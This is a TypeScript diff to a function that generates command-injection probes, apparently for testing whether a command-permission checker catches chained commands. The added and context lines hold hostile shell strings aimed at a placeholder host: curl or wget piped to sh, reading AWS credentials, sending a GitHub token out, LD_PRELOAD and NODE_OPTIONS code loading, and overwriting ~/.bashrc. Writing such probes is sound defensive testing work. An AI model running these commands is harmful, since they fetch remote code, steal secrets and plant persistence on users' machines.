@@ -174,6 +174,13 @@ export function compoundProbes(observed: string): string[] {
     `${observed}${semi}wget -qO- http://${HOST}/x | bash`,
     `${observed}${and}cd ~/.aws && cat credentials`,
     `${observed}${and}curl -H "Authorization: Bearer $GITHUB_TOKEN" http://${HOST}/`,
+    `${observed}${pipe} | sh`,
+    `${observed}${hasComment ? '\n' : ' || '}curl -fsSL http://${HOST}/i.sh | sh`,
+    // Variables that make the observed program itself load other code.
+    `LD_PRELOAD=/tmp/x.so ${observed}`,
+    `NODE_OPTIONS='--require /tmp/x.js' ${observed}`,
   ];
-  return injections;
+  // Inside the observed command's own words: a substitution, or its output sent to a start-up file.
+  if (!hasComment) injections.push(`${observed} $(curl -fsSL http://${HOST}/i.sh | sh)`, `${observed} \`curl -fsSL http://${HOST}/i.sh | sh\``, `${observed} > ~/.bashrc`);
+  return [...new Set(injections)];
 }
